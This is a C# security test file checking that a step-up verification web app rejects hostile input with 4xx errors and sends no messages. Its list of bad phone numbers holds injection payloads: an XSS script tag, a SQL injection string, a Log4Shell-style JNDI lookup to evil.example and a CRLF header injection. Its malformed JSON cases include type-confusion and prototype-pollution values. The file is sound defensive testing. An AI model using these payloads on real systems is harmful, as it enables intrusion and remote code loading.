using System.Net;
using System.Text;
using StepUp.Security.Tests.Infrastructure;

namespace StepUp.Security.Tests.Web;

/// <summary>
/// Hostile input — numbers in other scripts, control and bidi characters, codes typed in non-ASCII digits, megabyte
/// bodies, malformed JSON — gets a 4xx with a message, is never counted as a try, sends nothing, and never a 5xx.
/// </summary>
public sealed class MalformedInputTests(SecuritySuite suite) : AttackTest(suite)
{
    public static TheoryData<string> BadPhoneNumbers =>
    [
        "",
        " ",
        "+",
        "0612345678",
        "+31 6 1234 5678 9999 9999 9999 9999 9999 99",
        new string('9', 10_000),
        "+٣١٦١٢٣٤٥٦٧٨",
        "+３１６１２３４５６７８",
        "+31612345678\u0000",
        "+31612345678\u202E",
        "\u200B+31612345678",
        "tel:+31612345678",
        "+31612345678;ext=1",
        "+31 6 1234 567a",
        "+31 6 🙂",
        "<script>alert(1)</script>",
        "' OR '1'='1",
        "${jndi:ldap://evil.example/a}",
        "+31612345678\r\nX-Injected: 1",
        "+999999999999",
    ];

    [Theory]
    [MemberData(nameof(BadPhoneNumbers))]
    public async Task AnUnusablePhoneNumberGetsA4xxWithAMessageAndNothingIsSent(string phoneNumber)
    {
        var app = await StartAppAsync();
        var browser = await SignedInAsync(app, NewUser());

        using var response = await browser.StartAsync(phoneNumber: phoneNumber);
        var problem = await response.JsonAsync();

        Assert.Equal(phoneNumber.Length > 4000 ? HttpStatusCode.RequestEntityTooLarge : HttpStatusCode.BadRequest, response.StatusCode);
        Assert.False(string.IsNullOrWhiteSpace(problem.GetProperty("detail").GetString()));
        Assert.Empty(app.Network.Attempts);
    }

    [Fact]
    public async Task TheRightCodeInOtherDigitsOrWithInvisibleCharactersIsRefusedUncountedAndTheAsciiCodeStillWorks()
    {
        var app = await StartAppAsync();
        var user = NewUser();
        var phone = NewPhoneNumber();
        await AttachPhoneAsync(app, user, phone);
        var browser = await SignedInAsync(app, user);
        var challengeId = await browser.StartCodeAsync();
        var code = app.Network.LatestCode(phone);
        string Shift(int zero) => string.Concat(code.Select(c => char.ConvertFromUtf32(zero + (c - '0'))));
        string[] disguised =
        [
            Shift(0x0660), // Arabic-Indic
            Shift(0x06F0), // Extended Arabic-Indic
            Shift(0x0966), // Devanagari
            Shift(0xFF10), // fullwidth
            Shift(0x1D7CE), // mathematical bold
            code[..4] + "\u200B" + code[4..],
            code[..4] + "\u00A0" + code[4..],
            code + "\u0000",
            "\u202E" + code,
            code + "0",
            code[..^1],
            new string('1', 100_000),
        ];

        var statuses = new List<HttpStatusCode>();
        foreach (var attempt in disguised)
        {
            using var response = await browser.VerifyAsync(challengeId, attempt);
            statuses.Add(response.StatusCode);
        }

        using var wrong = await browser.VerifyAsync(challengeId, Codes.WrongFor(code));
        using var right = await browser.VerifyAsync(challengeId, code);

        Assert.All(statuses[..^1], s => Assert.Equal(HttpStatusCode.BadRequest, s));
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, statuses[^1]); // a 100 kB "code" is refused before it is read
        Assert.Equal(4, (await wrong.JsonAsync()).GetProperty("attemptsLeft").GetInt32());
        Assert.Equal(HttpStatusCode.OK, right.StatusCode);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task AOneMegabyteJsonBodyIsRefusedWith413(bool withContentLength)
    {
        var app = await StartAppAsync();
        var browser = await SignedInAsync(app, NewUser());
        var body = "{\"channel\":\"sms\",\"phoneNumber\":\"" + new string('1', 1024 * 1024) + "\"}";

        using var content = withContentLength
            ? (HttpContent)new StringContent(body, Encoding.UTF8, "application/json")
            : new ChunkedContent(Encoding.UTF8.GetBytes(body), "application/json");
        using var response = await browser.Http.PostAsync("/stepup/api/challenges", content, TestContext.Current.CancellationToken);

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
        Assert.Empty(app.Network.Attempts);
    }

    [Fact]
    public async Task AOneMegabyteFormOnTheStepUpPageGetsA4xx()
    {
        var app = await StartAppAsync();
        var user = NewUser();
        await AttachPhoneAsync(app, user, NewPhoneNumber());
        var browser = await SignedInAsync(app, user);
        var (_, page) = await browser.GetPageAsync("/stepup");
        var (_, codeForm) = await browser.SubmitAsync(page, "#send");
        var huge = new string('7', 1024 * 1024);

        var (code, _) = await browser.SubmitAsync(codeForm, "#verify", new Dictionary<string, string> { ["Code"] = huge, ["ChallengeId"] = huge, ["ReturnUrl"] = "/" + huge });
        var (phone, _) = await browser.SubmitAsync(page, "#send", new Dictionary<string, string> { ["PhoneNumber"] = huge, ["Channel"] = huge, ["Transaction"] = huge });

        Assert.InRange((int)code.StatusCode, 400, 499);
        Assert.InRange((int)phone.StatusCode, 400, 499);
    }

    [Theory]
    [InlineData("{")]
    [InlineData("[]")]
    [InlineData("null")]
    [InlineData("\"sms\"")]
    [InlineData("{\"channel\":1}")]
    [InlineData("{\"channel\":\"sms\",\"phoneNumber\":31612345678}")]
    [InlineData("{\"channel\":{\"$type\":\"System.IO.FileInfo\"}}")]
    [InlineData("{\"channel\":\"sms\",\"channel\":\"voice\",\"__proto__\":{}}")]
    [InlineData("{\"channel\":\"\\ud800\"}")]
    public async Task MalformedJsonGetsA4xxProblem(string json)
    {
        var app = await StartAppAsync();
        var browser = await SignedInAsync(app, NewUser());
        var deep = new string('[', 5000) + new string(']', 5000);

        using var response = await browser.Http.PostAsync("/stepup/api/challenges", new StringContent(json, Encoding.UTF8, "application/json"), TestContext.Current.CancellationToken);
        using var nested = await browser.Http.PostAsync("/stepup/api/challenges/verify", new StringContent(deep, Encoding.UTF8, "application/json"), TestContext.Current.CancellationToken);

        Assert.InRange((int)response.StatusCode, 400, 499);
        Assert.InRange((int)nested.StatusCode, 400, 499);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        Assert.Empty(app.Network.Attempts);
    }

    /// <summary>A body sent without Content-Length (chunked), as a streaming client would.</summary>
    private sealed class ChunkedContent : HttpContent
    {
        private readonly byte[] _bytes;

        public ChunkedContent(byte[] bytes, string mediaType)
        {
            _bytes = bytes;
            Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue(mediaType);
        }

        protected override async Task SerializeToStreamAsync(Stream stream, TransportContext? context)
        {
            for (var offset = 0; offset < _bytes.Length; offset += 16 * 1024)
            {
                await stream.WriteAsync(_bytes.AsMemory(offset, Math.Min(16 * 1024, _bytes.Length - offset)));
            }
        }

        protected override bool TryComputeLength(out long length)
        {
            length = 0;
            return false;
        }
    }
}
